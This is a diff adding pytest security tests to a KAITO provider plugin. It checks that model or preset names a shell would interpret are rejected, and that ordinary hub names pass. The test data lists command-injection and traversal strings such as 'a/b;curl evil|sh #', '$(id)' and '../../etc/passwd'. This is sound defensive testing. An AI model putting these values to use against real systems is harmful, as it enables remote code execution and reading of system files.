@@ -7,6 +7,7 @@ import pytest
 from airunway.plugins.contract import Compatibility
 from airunway.plugins.errors import SettingsError
 from airunway.plugins.registry import host_of, load
+from airunway.runtime.overrides import check_overrides
 from airunway_kaito import provider
 from airunway_kaito.compatibility import compatibility as can_handle
 from airunway_testing.conformance.fields import Answer, outcomes
@@ -159,3 +160,23 @@ def test_each_way_of_running_on_kaito_is_asked() -> None:
         "llamacpp, own model",
         "llamacpp on CPU",
     }
+
+
+SHELL = ("a/b;curl evil|sh #", "a/$(id)", "a/b c", "a/b\n", "a`id`", "a/b&", "../../etc/passwd", "a//b", "a/b'")
+
+
+@pytest.mark.parametrize("name", SHELL)
+def test_l2_a_name_that_a_shell_would_read_is_no_preset(vllm: Any, context: Any, name: str) -> None:
+    """Second security review, L2: KAITO puts the name into the line that starts its container."""
+    found = blockers(can_handle(vllm(model={"id": name}), context()))
+    assert "which a shell reads" in found["spec.model.id"]
+    given = {"inference": {"preset": {"name": name}}}
+    (refused,) = check_overrides(given, load("kaito").manifest.override_schema).errors
+    assert (refused.path, refused.reason) == ("spec.provider.overrides.inference.preset.name", "InvalidOverride")
+
+
+@pytest.mark.parametrize("name", ["phi-4-mini-instruct", "meta-llama/Llama-3.1-8B-Instruct", "Qwen/Qwen2.5_x"])
+def test_l2_names_of_presets_and_of_the_hub_are_taken(vllm: Any, context: Any, name: str) -> None:
+    assert blockers(can_handle(vllm(model={"id": name}), context())) == {}
+    given = {"inference": {"preset": {"name": name}}}
+    assert check_overrides(given, load("kaito").manifest.override_schema).errors == ()
